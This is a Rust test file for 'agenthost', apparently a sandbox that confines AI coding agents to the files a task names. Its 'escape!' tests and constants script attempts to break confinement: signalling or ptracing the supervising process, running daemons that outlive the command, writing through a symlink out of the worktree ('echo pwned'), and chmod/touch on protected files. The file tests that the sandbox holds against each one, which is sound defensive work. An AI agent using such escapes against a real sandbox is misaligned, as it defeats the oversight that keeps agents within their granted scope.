/// ended with the command, not left running with the sandbox's rights.
#[test]
fn nothing_the_command_started_outlives_it() {
    if !supported() {
        return;
    }
    let test = fixture();
    let root = test.path();
    let script = "setsid sh -c 'touch build/started; sleep 1.41; touch build/survived' \
                  >/dev/null 2>&1 &
                  while [ ! -e build/started ]; do sleep 0.01; done; exit 6";
    let output = foreground_sandbox(root, "--default-signal=INT", &[], script)
        .output()
        .expect("run agenthost");
    assert_eq!(output.status.code(), Some(6), "{output:?}");
    assert!(
        root.join("wt/build/started").exists(),
        "the daemon did not start"
    );
    crate::wait_until_no_process_mentions("sleep 1.41");
    assert!(
        !root.join("wt/build/survived").exists(),
        "the command's daemon outlived it"
    );
}

/// A process the command orphans (here by a double fork) is adopted by agenthost, and
/// reaped when it ends, not left a zombie until the command ends.
#[test]
fn an_orphan_that_ends_is_reaped_while_the_command_runs() {
    use std::io::Write as _;
    if !supported() {
        return;
    }
    let test = fixture();
    let script = "(true &); sleep 0.5; echo ready; read line";
    let mut child = foreground_sandbox(test.path(), "--default-signal=INT", &[], script)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    let (line, _stdout) = first_line(&mut child);
    assert_eq!(line, "ready\n");
    let children = std::fs::read_dir(format!("/proc/{}/task", child.id()))
        .expect("agenthost's threads")
        .flatten()
        .filter_map(|task| std::fs::read_to_string(task.path().join("children")).ok())
        .collect::<String>();
    let zombies: Vec<&str> = children
        .split_whitespace()
        .filter(|pid| process_state(pid.parse().expect("pid")) == 'Z')
        .collect();
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(b"go\n")
        .expect("write");
    assert_eq!(child.wait().expect("wait").code(), Some(0));
    assert_eq!(
        zombies,
        Vec::<&str>::new(),
        "children of agenthost: {children}"
    );
}

#[test]
fn sandbox_dies_with_agenthost() {
    if !supported() {
        return;
    }
    let test = fixture();
    let root = test.path().to_path_buf();
    let marker = root.join("wt/build/survived");
    let mut child = Command::new(crate::binary())
        .args(["sandbox", "--spec"])
        .arg(root.join("task.md"))
        .arg("--root")
        .arg(root.join("wt"))
        .args([
            "--",
            "sh",
            "-c",
            "touch build/started; sleep 2.31; echo x > build/survived",
        ])
        .env("HOME", root.join(".test-home"))
        // Killed with SIGKILL, agenthost cannot remove its private TMPDIR: keep it in here.
        .env("TMPDIR", &root)
        .spawn()
        .expect("spawn");
    let started = root.join("wt/build/started");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !started.exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "the command did not start"
        );
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    child.kill().expect("kill agenthost");
    let _ = child.wait();
    crate::wait_until_no_process_mentions("sleep 2.31");
    assert!(!marker.exists(), "the sandboxed command outlived agenthost");
}

// --- What must keep working ------------------------------------------------------------------

works!(
    edit_modify_file_in_place,
    "printf 'print(2)\\n' > src/app.py",
    |dir, run| {
        assert_eq!(run.code, 0, "{}", run.transcript());
        assert_unchanged(&dir, "wt/src/app.py", "print(2)\n");
    }
);

works!(
    atomic_rename_save_of_modify_file,
    "set -e; printf 'print(3)\\n' > src/app.py.tmp.123.abc; chmod 644 src/app.py.tmp.123.abc; mv src/app.py.tmp.123.abc src/app.py",
    |dir, run| {
        assert_eq!(run.code, 0, "{}", run.transcript());
        assert_unchanged(&dir, "wt/src/app.py", "print(3)\n");
        assert_absent(&dir, "wt/src/app.py.tmp.123.abc");
    }
);

works!(
    create_files_in_scope,
    "set -e; echo new > src/new.py; echo notes > NOTES.md; mkdir -p build/a/b; echo o > build/a/b/out.o; rm build/a/b/out.o",
    |dir, run| {
        assert_eq!(run.code, 0, "{}", run.transcript());
        assert_unchanged(&dir, "wt/src/new.py", "new\n");
        assert_unchanged(&dir, "wt/NOTES.md", "notes\n");
        assert!(exists(&dir, "wt/build/a/b"));
    }
);

works!(unused_root_create_target_is_removed, "true", |dir, run| {
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert_absent(&dir, "wt/NOTES.md");
    assert_absent(&dir, "wt/build");
});

works!(
    git_status_and_diff_inside,
    "set -e; printf 'print(4)\\n' > src/app.py; git status --short; git diff --stat; git log --oneline -1 >/dev/null",
    |_dir, run| {
        assert_eq!(run.code, 0, "{}", run.transcript());
        assert!(run.stdout.contains(" M src/app.py"), "{}", run.transcript());
        assert!(
            run.stdout.contains("1 file changed"),
            "{}",
            run.transcript()
        );
    }
);

works!(
    tools_run_inside,
    "set -e; sh -c 'echo sh-ok'; python3 -c 'print(\"python-ok\")'; git --version; echo tmp > \"$TMPDIR/scratch\"; cat \"$TMPDIR/scratch\"",
    |_dir, run| {
        assert_eq!(run.code, 0, "{}", run.transcript());
        for expected in ["sh-ok", "python-ok", "git version", "tmp"] {
            assert!(
                run.stdout.contains(expected),
                "{expected}: {}",
                run.transcript()
            );
        }
    }
);

#[test]
fn cargo_runs_inside() {
    if !supported() {
        return;
    }
    let Some(rustup_home) = std::env::var_os("RUSTUP_HOME")
        .map(PathBuf::from)
        .or_else(|| dirs::home_dir().map(|h| h.join(".rustup")))
        .filter(|p| p.exists())
    else {
        eprintln!("SKIPPED: no rustup installation to test `cargo --version` with");
        return;
    };
    let test = fixture().env("RUSTUP_HOME", &rustup_home.display().to_string());
    let (run, _dir) = sandboxed(test, "cargo --version");
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert!(run.stdout.starts_with("cargo "), "{}", run.transcript());
}

works!(environment_is_clean, "env", |_dir, run| {
    let names: Vec<&str> = run
        .stdout
        .lines()
        .filter_map(|l| l.split('=').next())
        .collect();
    let allowed = [
        "PATH",
        "HOME",
        "TMPDIR",
        "LANG",
        "TERM",
        "PWD",
        "SHLVL",
        "_",
        "OLDPWD",
        "CARGO_HOME",
        "RUSTUP_HOME",
        "RUSTUP_TOOLCHAIN",
        "PYENV_ROOT",
        "PYENV_VERSION",
        "GOROOT",
        "JAVA_HOME",
        "NVM_DIR",
    ];
    for name in &names {
        assert!(
            allowed.contains(name),
            "unexpected variable {name}: {}",
            run.stdout
        );
    }
    assert!(!run.stdout.contains(SECRET_ENV));
    assert!(!run.stdout.contains("XDG_CONFIG_HOME"));
});

works!(exit_code_passes_through, "exit 7", |_dir, run| {
    assert_eq!(run.code, 7, "{}", run.transcript());
});

works!(
    signal_death_maps_to_128_plus_signal,
    "kill -TERM $$",
    |_dir, run| {
        assert_eq!(run.code, 128 + 15, "{}", run.transcript());
    }
);

works!(
    missing_command_is_127,
    "exec /nonexistent/tool",
    |_dir, run| {
        assert_eq!(run.code, 127, "{}", run.transcript());
    }
);

works!(
    private_tmpdir_is_removed,
    "echo \"$TMPDIR\"; stat -c %a \"$TMPDIR\"",
    |_dir, run| {
        let mut lines = run.stdout.lines();
        let tmpdir = lines.next().unwrap_or_default();
        assert_eq!(
            lines.next(),
            Some("700"),
            "TMPDIR must be private: {}",
            run.stdout
        );
        assert!(tmpdir.contains("agenthost-sandbox-"), "{tmpdir}");
        assert!(!Path::new(tmpdir).exists(), "{tmpdir} is still there");
    }
);

works!(
    private_tmpdir_is_removed_with_what_the_command_left_in_it,
    "mkdir -p \"$TMPDIR/a/b\"; echo x > \"$TMPDIR/a/b/f\"; echo y > \"$TMPDIR/g\"; echo \"$TMPDIR\"",
    |_dir, run| {
        assert_eq!(run.code, 0, "{}", run.transcript());
        let tmpdir = run.stdout.trim();
        assert!(tmpdir.contains("agenthost-sandbox-"), "{tmpdir}");
        assert!(!Path::new(tmpdir).exists(), "{tmpdir} is still there");
    }
);

#[test]
fn explain_names_every_rule_and_its_origin() {
    let test = fixture();
    let root = test.path().to_path_buf();
    let run = test
        .args(["sandbox", "--explain", "--spec"])
        .arg(root.join("task.md").display().to_string())
        .arg("--root")
        .arg(root.join("wt").display().to_string())
        .run();
    assert_eq!(run.code, 0, "{}", run.transcript());
    for expected in [
        "  src/app.py\n      file: read_file write_file truncate\n      task.md:7: Modify `src/app.py`",
        "  src/\n      tree: write_file truncate make_reg remove_file\n      task.md:7, task.md:8: Modify `src/app.py`",
        "  NOTES.md\n      file: read_file write_file truncate\n      task.md:8: Create `NOTES.md`: at the worktree root, so pre-created empty",
        "  build/\n      tree: execute read_file read_dir write_file truncate make_reg make_dir make_sym remove_file remove_dir refer\n      task.md:8: Create `build/`",
        "git dir, read-only",
        "TCP connect: none",
        "Do NOT modify `other/`",
    ] {
        assert!(
            run.stdout.contains(expected),
            "missing {expected:?} in:\n{}",
            run.stdout
        );
    }
    assert!(!run.stdout.contains("other/keep.txt"));
    assert!(
        !root.join("wt/NOTES.md").exists(),
        "--explain must not touch the disk"
    );
}

#[test]
fn refuses_a_grant_that_makes_git_writable() {
    let test = fixture();
    let root = test.path().to_path_buf();
    std::fs::write(
        root.join("config.toml"),
        format!(
            "[agents.wide]\ncommand = [\"true\"]\nwrite = [\"{}\"]\n",
            root.display()
        ),
    )
    .expect("config");
    let run = test
        .env(
            "AGENTHOST_CONFIG",
            &root.join("config.toml").display().to_string(),
        )
        .args(["sandbox", "--profile", "wide", "--spec"])
        .arg(root.join("task.md").display().to_string())
        .arg("--root")
        .arg(root.join("wt").display().to_string())
        .args(["--", "true"])
        .run();
    assert_eq!(run.code, 125, "{}", run.transcript());
    assert!(
        run.stderr
            .contains("the sandbox would let the agent write the worktree root"),
        "{}",
        run.stderr
    );
}

#[test]
fn usage_errors() {
    let test = fixture();
    let root = test.path().to_path_buf();
    let run = test
        .args(["sandbox", "--spec"])
        .arg(root.join("task.md").display().to_string())
        .run();
    assert_eq!(run.code, 2, "{}", run.transcript());
    assert!(run.stderr.contains("no command given"), "{}", run.stderr);
}

#[test]
fn mode_off_warns_and_runs() {
    let test = fixture();
    let root = test.path().to_path_buf();
    let run = test
        .args(["sandbox", "--mode", "off", "--spec"])
        .arg(root.join("task.md").display().to_string())
        .arg("--root")
        .arg(root.join("wt").display().to_string())
        .args(["--", "sh", "-c", "echo ran"])
        .run();
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert!(run.stderr.contains("sandbox mode is off"), "{}", run.stderr);
}

/// With the sandbox off the command shares agenthost's process group, so the terminal's
/// Ctrl-C reaches both: agenthost outlives it (as `system(3)` does), and the command's own
/// ending comes back.
#[test]
fn mode_off_ctrl_c_ends_as_the_command_chooses() {
    use std::os::unix::process::CommandExt as _;
    let test = fixture();
    let script = "trap 'echo interrupted; exit 7' INT; echo ready; sleep 30 >/dev/null & wait";
    let mut child = foreground_sandbox(
        test.path(),
        "--default-signal=INT",
        &["--mode", "off"],
        script,
    )
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::null())
    // Its own group, as a shell makes for a foreground job: the terminal signals it all.
    .process_group(0)
    .spawn()
    .expect("spawn");
    let group = rustix::process::Pid::from_child(&child);
    let (line, mut stdout) = first_line(&mut child);
    assert_eq!(line, "ready\n");
    rustix::process::kill_process_group(group, rustix::process::Signal::INT).expect("SIGINT");
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stdout, &mut rest).expect("read");
    let code = child.wait().expect("wait").code();
    // The background `sleep` ignores SIGINT (a non-interactive shell's background job).
    let _ = rustix::process::kill_process_group(group, rustix::process::Signal::KILL);
    assert_eq!(rest, "interrupted\n");
    assert_eq!(code, Some(7), "the command's own exit code passes through");
}

#[test]
fn doctor_proves_the_sandbox() {
    if !supported() {
        return;
    }
    let run = Test::new().arg("doctor").run();
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert!(
        run.stdout.contains("a write outside allowed/ was refused"),
        "{}",
        run.stdout
    );
    assert!(!run.stdout.contains("FAILED"), "{}", run.stdout);
    // The proof's own refused write is expected: nothing of it reaches the user.
    assert_eq!(run.stderr, "", "{}", run.transcript());
}

#[test]
fn doctor_starts_each_installed_agent_in_its_sandbox_and_names_the_fix() {
    if !supported() {
        return;
    }
    // `linked` is an npm-style link outside PATH into a package; `blocked` reads a file no
    // grant covers; `absent` is not installed.
    let test = Test::new()
        .file(
            "tools/node_modules/cli/bin/cli.sh",
            "#!/bin/sh
. \"$(dirname \"$(readlink -f \"$0\")\")/../lib/version.sh\"\n",
        )
        .file(
            "tools/node_modules/cli/lib/version.sh",
            "echo 'cli 1.2.3'\n",
        )
        .file("secret/version", "hidden\n")
        .file(
            "tools/blocked.sh",
            "#!/bin/sh
cat \"$(dirname \"$0\")/../secret/version\"\n",
        );
    for script in ["tools/node_modules/cli/bin/cli.sh", "tools/blocked.sh"] {
        std::fs::set_permissions(
            test.path().join(script),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )
        .expect("chmod");
    }
    let link = test.path().join("tools/bin/cli");
    std::fs::create_dir_all(link.parent().expect("parent")).expect("mkdir");
    std::os::unix::fs::symlink(test.path().join("tools/node_modules/cli/bin/cli.sh"), &link)
        .expect("link");
    let config = format!(
        "[agents.linked]\ncommand = [\"{}\"]\n[agents.blocked]\ncommand = [\"{}\"]\n\
         [agents.absent]\ncommand = [\"no-such-agent-cli\"]\n",
        link.display(),
        test.path().join("tools/blocked.sh").display()
    );
    let run = test
        .file(".test-home/config/agenthost/config.toml", config)
        .arg("doctor")
        .run();
    assert_eq!(run.code, 1, "{}", run.transcript());
    for expected in [
        "  linked:\n    ok      program [TEMP]/tools/bin/cli -> [TEMP]/tools/node_modules/cli/bin/cli.sh\n    ok      starts in its sandbox: cli 1.2.3\n",
        "  blocked:\n    ok      program [TEMP]/tools/blocked.sh\n    FAILED  does not start in its sandbox: `--version` exited with 1: cat: ",
        "  absent:\n    MISSING `no-such-agent-cli` is not installed or not on PATH\n            fix: set `command` in [agents.absent] to its full path\n",
    ] {
        assert!(run.stdout.contains(expected), "{expected}\n{}", run.stdout);
    }
}

#[test]
fn unix_socket_profile_serves_its_own_socket_but_cannot_reach_the_hosts_abstract_one() {
    if !supported() {
        return;
    }
    use std::os::linux::net::SocketAddrExt;
    let name = format!("agenthost-test-uds-{}", std::process::id());
    let addr =
        std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("abstract addr");
    let listener = UnixListener::bind_addr(&addr).expect("bind abstract");
    listener.set_nonblocking(true).expect("nonblocking");
    let test = fixture();
    std::fs::write(
        test.path().join("config.toml"),
        "[agents.claude-like]\ncommand = [\"true\"]\nunix_sockets = true\n",
    )
    .expect("config");
    let root = test.path().to_path_buf();
    let script = format!(
        "echo {}; python3 -c '\nimport socket,os\np=os.environ[\"TMPDIR\"]+\"/cc.sock\"\ns=socket.socket(socket.AF_UNIX); s.bind(p); s.listen()\nc=socket.socket(socket.AF_UNIX); c.connect(p); print(\"own socket ok\")\ntry:\n  h=socket.socket(socket.AF_UNIX); h.connect(\"\\0{name}\"); print(\"host reached\")\nexcept OSError as e: print(\"host refused\", e)\n'",
        RAN.trim()
    );
    let (run, _dir) = ran(test
        .env(
            "AGENTHOST_CONFIG",
            &root.join("config.toml").display().to_string(),
        )
        .args(["sandbox", "--profile", "claude-like", "--spec"])
        .arg(root.join("task.md").display().to_string())
        .arg("--root")
        .arg(root.join("wt").display().to_string())
        .args(["--", "sh", "-c", &script])
        .run_keep());
    assert!(run.stdout.contains("own socket ok"), "{}", run.transcript());
    assert!(run.stdout.contains("host refused"), "{}", run.transcript());
    assert!(
        listener.accept().is_err(),
        "the host's abstract socket got a connection"
    );
}

works!(
    ignored_build_output_is_scratch_space,
    "set -e; mkdir -p target/debug; echo bin > target/debug/app; git status --short",
    |dir, run| {
        assert_eq!(run.code, 0, "{}", run.transcript());
        assert_unchanged(&dir, "wt/target/debug/app", "bin\n");
        assert!(
            !run.stdout.contains("target"),
            "ignored output reached git status: {}",
            run.stdout
        );
    }
);

escape!(
    scratch_space_is_not_granted_unless_ignored,
    "mkdir -p dist/x; echo x > dist/x/y",
    |dir, _run| {
        assert_absent(&dir, "wt/dist");
    }
);

#[test]
fn a_scope_symlink_out_of_the_worktree_is_refused() {
    let test = fixture().file(
        "evil.md",
        "# Evil\n\n## What\nIt.\n\n### Scope\n- Modify: `src/evil.py`\n",
    );
    let root = test.path().to_path_buf();
    std::os::unix::fs::symlink("../../outside/victim.txt", root.join("wt/src/evil.py"))
        .expect("symlink");
    let (run, dir) = test
        .args(["sandbox", "--spec"])
        .arg(root.join("evil.md").display().to_string())
        .arg("--root")
        .arg(root.join("wt").display().to_string())
        .args(["--", "sh", "-c", "echo pwned > src/evil.py"])
        .run_keep();
    assert_eq!(run.code, 125, "{}", run.transcript());
    assert!(
        run.stderr.contains("agenthost::sandbox::outside_worktree"),
        "{}",
        run.stderr
    );
    assert_unchanged(&dir, "outside/victim.txt", KEEP);
}

#[test]
fn background_jobs_die_with_the_command() {
    if !supported() {
        return;
    }
    let (run, dir) = sandboxed(
        fixture(),
        "(sleep 2.17; echo late > build/late) & echo started",
    );
    assert!(run.stdout.contains("started"), "{}", run.transcript());
    crate::wait_until_no_process_mentions("sleep 2.17");
    assert_absent(&dir, "wt/build/late");
}

escape!(
    signal_the_agenthost_process,
    "kill -USR1 $PPID; kill -TERM $PPID; sleep 0.2; echo after",
    |_dir, run| {
        // Had a signal reached agenthost it would have died (no exit code).
        assert_eq!(run.code, 0, "{}", run.transcript());
        assert!(run.stdout.contains("after"), "{}", run.transcript());
    }
);

escape!(
    ptrace_the_agenthost_process,
    "python3 -c 'import ctypes,sys; l=ctypes.CDLL(None,use_errno=True); print(\"ptrace\", l.ptrace(16, int(sys.argv[1]), 0, 0))' $PPID; echo after",
    control: Never,
    |_dir, run| {
        // Had ptrace attached, agenthost would be stopped and never return.
        assert_eq!(run.code, 0, "{}", run.transcript());
        assert!(run.stdout.contains("ptrace -1"), "{}", run.transcript());
        assert!(run.stdout.contains("after"), "{}", run.transcript());
    }
);

/// Runs `agenthost sandbox --spec SPEC` from `cwd` (relative to the fixture; with no
/// `--root`, the spec also at `wt/specs/task.md`) with a script that prints its directory
/// and writes `print(N)` to `app_py` (the worktree's `src/app.py`, as seen from there), and
/// asserts that it ran in `pwd` and that the write landed.
fn assert_starts_in(cwd: &str, spec: &str, app_py: &str, n: u32, pwd: &str) {
    let test = fixture().file("wt/specs/task.md", SPEC);
    let root = test.path().to_path_buf();
    let script = format!("pwd; printf 'print({n})\\n' > {app_py}");
    let (run, dir) = test
        .current_dir(cwd)
        .env(
            "AGENTHOST_CONFIG",
            &root.join("config.toml").display().to_string(),
        )
        .args(["sandbox", "--spec", spec, "--", "sh", "-c", &script])
        .run_keep();
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert_eq!(run.stdout.trim(), pwd, "{}", run.transcript());
    assert_unchanged(&dir, "wt/src/app.py", &format!("print({n})\n"));
}

#[test]
fn the_command_starts_in_the_callers_directory_when_it_is_inside_the_worktree() {
    if supported() {
        assert_starts_in("wt/src", "../specs/task.md", "app.py", 6, "[TEMP]/wt/src");
    }
}

#[test]
fn default_root_is_the_specs_repository() {
    if supported() {
        assert_starts_in(".", "wt/specs/task.md", "src/app.py", 5, "[TEMP]/wt");
    }
}

// --- Metadata outside the scope (the mount layer) -------------------------------------------

/// chmod and utime on a Do NOT modify file, the worktree's `.git`, a file outside the
/// repository and one in the home: Landlock has no rights for metadata, the mount layer's
/// read-only view refuses them.
const METADATA_ATTACK: &str = "echo ATTACK-METADATA; \
     chmod 600 other/keep.txt .git ../outside/victim.txt \"$HOME/.bashrc\"; \
     touch -m -d 2001-01-01 other/keep.txt .git ../outside/victim.txt \"$HOME/.bashrc\"";

const METADATA_TARGETS: [&str; 4] = [
    "wt/other/keep.txt",
    "wt/.git",
    "outside/victim.txt",
    ".test-home/.bashrc",
];

/// Mode bits and modification time of `relative`.
fn metadata(dir: &TempDir, relative: &str) -> (u32, i64) {
    use std::os::unix::fs::MetadataExt as _;
    let meta = std::fs::metadata(dir.path().join(relative)).expect("stat");
    (meta.mode() & 0o7777, meta.mtime())
}

/// 2002-01-01: the attack sets 2001-01-01.
const Y2002: i64 = 1_009_843_200;

escape!(metadata_outside_scope, METADATA_ATTACK, |dir, run| {
    assert!(
        run.stdout.contains("ATTACK-METADATA"),
        "{}",
        run.transcript()
    );
    for target in METADATA_TARGETS {
        let (mode, mtime) = metadata(&dir, target);
        assert_ne!(mode, 0o600, "{target}: mode changed\n{}", run.stderr);
        assert!(mtime > Y2002, "{target}: time changed\n{}", run.stderr);
    }
    assert!(
        run.stderr.contains("Read-only file system"),
        "{}",
        run.stderr
    );
});

/// The negative control: with the sandbox off the same attack changes every target.
#[test]
fn metadata_attack_lands_without_the_sandbox() {
    let test = fixture();
    for target in METADATA_TARGETS {
        let path = test.path().join(target);
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    }
    let (run, dir) = sandboxed_in_mode(test, &["--mode", "off"], METADATA_ATTACK);
    assert!(
        run.stdout.contains("ATTACK-METADATA"),
        "{}",
        run.transcript()
    );
    for target in METADATA_TARGETS {
        let (mode, mtime) = metadata(&dir, target);
        assert_eq!(mode, 0o600, "{target}\n{}", run.transcript());
        assert!(mtime < Y2002, "{target}\n{}", run.transcript());
    }
}
